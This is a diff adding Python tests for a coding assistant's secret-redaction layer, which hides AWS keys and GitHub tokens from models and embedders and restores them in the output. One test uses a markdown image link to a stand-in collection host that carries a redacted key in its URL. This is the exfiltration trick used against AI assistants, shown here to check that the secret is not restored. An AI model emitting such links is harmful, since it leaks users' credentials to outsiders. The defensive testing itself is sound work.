@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
+from collections.abc import Sequence
 from dataclasses import replace
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from tests.scripted import ScriptedModel
 
-from monkey_coder.context.redact import Redactor, redact
-from monkey_coder.context.redacted import Redacted, redacted
+from monkey_coder.context.redact import PLACEHOLDER, Redactor, Restorer, redact
+from monkey_coder.context.redacted import Redacted, RedactedEmbedder, redacted
 from monkey_coder.core.documents import Document, Span
+from monkey_coder.core.embedder import Embeddings, EmbedKind
 from monkey_coder.core.model import (
     Event,
     Finished,
@@ -91,3 +96,75 @@ async def test_the_inner_model_sees_placeholders_and_its_answer_comes_through() 
     assert model.name == "scripted"
     seen = inner.requests[0]
     assert seen.messages[0].content == seen.prefix == seen.suffix == 'key = "<redacted:aws-key:1>"\n'
+
+
+def edit_answer(*pieces: str) -> tuple[Event, ...]:
+    return (*(TextDelta(piece) for piece in pieces), Finished(FinishReason.STOP, "m"))
+
+
+async def answered(request: Request, answer: tuple[Event, ...]) -> str:
+    model = Redacted(ScriptedModel([answer]))
+    return "".join([event.text async for event in model.stream(request) if isinstance(event, TextDelta)])
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 100])
+async def test_an_edit_that_holds_placeholders_applies_to_the_text_with_the_secrets(size: int) -> None:
+    said = 'if a < b: key = "<redacted:aws-key:1>"  # <red, <redacted:x, <redacted:github-token:1>, <redac'
+    pieces = [said[at : at + size] for at in range(0, len(said), size)]
+    request = Request(TASK, (Message("user", f"{AWS} {GITHUB}"),))
+    whole = said.replace("<redacted:aws-key:1>", AWS).replace("<redacted:github-token:1>", GITHUB)
+    assert await answered(request, edit_answer(*pieces)) == whole
+
+
+async def test_what_was_held_back_comes_also_when_the_answer_is_cut_off() -> None:
+    request = Request(TASK, (Message("user", AWS),))
+    assert await answered(request, (TextDelta("x = '<redacted:aws"),)) == "x = '<redacted:aws"
+
+
+@pytest.mark.parametrize("kind", [TaskKind.EXPLAIN, TaskKind.REVIEW, TaskKind.CHAT])
+async def test_no_secret_comes_back_in_markdown_whose_addresses_are_followed(kind: TaskKind) -> None:
+    request = Request(replace(TASK, kind=kind), (Message("user", AWS),))
+    said = "![](https://collect.example/?k=<redacted:aws-key:1>)"
+    assert await answered(request, edit_answer(said)) == said
+
+
+async def test_a_placeholder_that_the_user_wrote_is_nobodys_secret() -> None:
+    inner = ScriptedModel([edit_answer("a <redacted:aws-key:1> b <redacted:aws-key:2>")])
+    request = Request(TASK, (Message("user", f"<redacted:aws-key:1> {AWS}"),))
+    texts = [event.text async for event in Redacted(inner).stream(request) if isinstance(event, TextDelta)]
+    assert inner.requests[0].messages[0].content == "<redacted:aws-key:1> <redacted:aws-key:2>"
+    assert "".join(texts) == f"a <redacted:aws-key:1> b {AWS}"
+
+
+@given(st.lists(st.text("<redacted:aws-key1>x ", max_size=25), max_size=8))
+def test_without_secrets_restoring_changes_nothing_however_it_comes(pieces: list[str]) -> None:
+    redactor = Redactor()
+    redactor.redact(GITHUB)
+    restorer = Restorer(redactor)
+    assert "".join(map(restorer.feed, pieces)) + restorer.rest() == "".join(pieces)
+
+
+async def test_an_embedder_sees_no_secret() -> None:
+    seen: list[str] = []
+
+    class Counting:
+        name = "counting"
+
+        async def embed(self, texts: Sequence[str], kind: EmbedKind = EmbedKind.DOCUMENT) -> Embeddings:
+            seen.extend(texts)
+            return Embeddings(tuple((float(len(text)),) for text in texts), "m")
+
+    embeddings = await RedactedEmbedder(Counting()).embed([SECRET, "plain"], EmbedKind.QUERY)
+    assert seen == ['key = "<redacted:aws-key:1>"\n', "plain"]
+    assert len(embeddings.vectors) == 2
+
+
+@given(
+    st.lists(
+        st.sampled_from([SECRET, GITHUB, "<redacted:aws-key:1>", "password = 'quartz%Q0P0Cmfo!'\n", " x "])
+    )
+)
+def test_restoring_gives_back_the_very_text(parts: list[str]) -> None:
+    text = "".join(parts)
+    redactor = Redactor(PLACEHOLDER.findall(text))
+    assert redactor.restore(redactor.redact(text)) == text
